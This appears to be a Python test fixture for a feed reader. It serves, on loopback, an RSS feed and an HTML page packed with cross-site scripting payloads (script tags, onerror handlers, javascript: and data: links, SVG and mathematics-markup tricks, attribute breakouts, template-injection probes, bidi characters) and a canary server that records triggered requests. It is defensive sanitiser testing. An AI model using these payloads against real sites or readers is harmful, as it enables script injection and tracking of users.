"""A source that attacks whoever reads it, and the canary by which it would show that it succeeded.

Each payload, where a browser obeys it, sets `window.__ran` or calls an address of the canary's host.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from xml.sax.saxutils import escape, quoteattr

from tests.invented import sentence

FEED = "/feed.xml"
RAW = "/raw.html"
"""The payloads as they are: the page on which the canary must sing, or the tests prove nothing."""
RUN = "window.__ran=1"
WORD = "Qanaryot"
"""In each hostile text, so that pages and searches find it."""


def payloads(host: str) -> dict[str, str]:
    """HTML by what it tries."""
    call = f"{host}/called"
    return {
        "script": f"<script>{RUN}</script>",
        "script from elsewhere": f'<script src="{call}.js"></script>',
        "module": f'<script type="module">import "{call}.mjs"</script>',
        "image that fails": f'<img src="x" onerror="{RUN}">',
        "image that counts": f'<img src="{call}.gif" width="1" height="1">',
        "picture set": f'<img srcset="{call}-2x.gif 2x"><picture><source srcset="{call}.webp"></picture>',
        "svg": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
        "svg use": f'<svg><use href="data:image/svg+xml,&lt;svg onload={RUN}&gt;"/></svg>',
        "svg animation": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/>x</a></svg>',
        "details": f'<details open ontoggle="{RUN}">x</details>',
        "focus": f'<input autofocus onfocus="{RUN}">',
        "video": f'<video><source onerror="{RUN}" src="{call}.mp4"></video>',
        "audio": f'<audio src="{call}.ogg" autoplay onerror="{RUN}"></audio>',
        "frame": f'<iframe srcdoc="&lt;script&gt;parent.{RUN}&lt;/script&gt;"></iframe>',
        "frame of elsewhere": f'<iframe src="{call}.html"></iframe>',
        "frame of script": f'<iframe src="javascript:parent.{RUN}"></iframe>',
        "object": f'<object data="{call}.swf"></object><embed src="{call}.pdf">',
        "base": f'<base href="{host}/base/">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={call}-refresh">',
        "style": f'<style>@import "{call}.css"; main {{ display: none }}</style>',
        "style of an element": f'<p style="background:url({call}-bg.gif);position:fixed;inset:0">x</p>',
        "stylesheet": f'<link rel="stylesheet" href="{call}-link.css"><link rel="prefetch" href="{call}">',
        "script link": f'<a href="javascript:{RUN}">x</a>',
        "script link in disguise": f'<a href=" jav&#x09;ascript:{RUN}">x</a>',
        "data link": f'<a href="data:text/html,<script>opener.{RUN}</script>" target="_blank">x</a>',
        "ping": f'<a href="https://example.org/" ping="{call}-ping">x</a>',
        "form": f'<form action="{call}-form"><button formaction="javascript:{RUN}">x</button></form>',
        "template syntax": "{{ 7 * 191 }} {% raise %} ${7*191} <%= 7*191 %> #{7*191} [[7*191]]",
        "end of an attribute": f'"><script>{RUN}</script><p x="',
        "end of another": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
        "end of a title": f"</title></textarea></style></noscript><script>{RUN}</script>",
        "end of a comment": f"--><script>{RUN}</script><!--",
        "end of a section": f"]]><script>{RUN}</script>",
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
        "mathematics": (
            "<math><mtext><table><mglyph><style><!--</style>"
            f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"></table></mtext></math>'
        ),
        "written twice": f"&lt;script&gt;{RUN}&lt;/script&gt;&lt;img src=x onerror={RUN}&gt;",
        "half a tag": f'<img src=x onerror="{RUN}" ',
        "direction": "\u202egnp.tfihs\u202c \u2066\u2067\u2068 \u200f\u202d",
        "one long word": "W" * 400,
    }


LINKS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//https://example.org/",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'https://example.org/"onmouseover="{RUN}"x="',
    f"https://example.org/<script>{RUN}</script>",
    "//example.org/without-scheme",
)
"""Where entries lead."""


def feed(host: str, now: datetime) -> bytes:
    """Each payload in each field of an entry of its own; then harmless entries with bad links."""
    tricks = list(payloads(host).items())
    items = [
        _item(number, now, f"{WORD} {trick} {payload}", payload, f"{host}/story/{number}")
        for number, (trick, payload) in enumerate(tricks)
    ]
    items += [
        _item(number, now, f"{WORD} link {number}", "", link)
        for number, link in enumerate(LINKS, start=len(items))
    ]
    title = escape(f"{WORD} <script>{RUN}</script>")
    channel = f"<channel><title>{title}</title><link>javascript:{RUN}</link>{''.join(items)}</channel>"
    return f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'>{channel}</rss>".encode()


def _item(number: int, now: datetime, title: str, payload: str, link: str) -> str:
    """Texts differ enough to be stories of their own, and all are about Turkmenistan."""
    text = f"{payload} In Ashgabat {WORD} {sentence(f'hostile {number}', 40)}. {payload}"
    return (
        f"<item><guid isPermaLink='false'>{escape(f'{number} {payload}')}</guid>"
        f"<title>Ashgabat {sentence(f'title {number}', 5)} {escape(title)}</title>"
        f"<link>{escape(link)}</link>"
        f"<author>{escape(payload)}</author>"
        f"<category domain={quoteattr(payload)}>{escape(payload)}</category>"
        f"<pubDate>{format_datetime(now - timedelta(minutes=number + 1))}</pubDate>"
        f"<description>{escape(text)}</description></item>"
    )


class CanaryHost(ThreadingHTTPServer):
    """Serves the feed and the raw payloads; remembers every other call."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        self.began = datetime.now(UTC)
        self.calls: list[str] = []

    def content(self, path: str) -> tuple[str, bytes] | None:
        """Media type and body of what is there."""
        if path == FEED:
            return "application/rss+xml", feed(self.url, self.began)
        if path == RAW:
            # Without those that would leave the page or hide what comes after them.
            harmless = ("refresh", "base", "end of a title", "noscript", "half a tag", "mathematics")
            kept = [html for trick, html in payloads(self.url).items() if trick not in harmless]
            return "text/html", f"<!doctype html><meta charset=utf-8>{''.join(kept)}".encode()
        return None

    def handle_error(self, request: object, client_address: object) -> None:
        """A browser that hangs up: nothing to report."""


class _Answers(BaseHTTPRequestHandler):
    server: CanaryHost

    def do_GET(self) -> None:
        found = self.server.content(self.path)
        if found is None:
            self.server.calls.append(self.path)
        media_type, body = found or ("text/plain", b"called")
        self.send_response(200 if found else 404)
        self.send_header("Content-Type", media_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *arguments: object) -> None:
        """Keep the tests' output quiet."""


@contextmanager
def canary_host() -> Iterator[CanaryHost]:
    """Serve it on loopback until the block ends."""
    with CanaryHost() as host:
        threading.Thread(target=host.serve_forever, daemon=True).start()
        yield host
        host.shutdown()
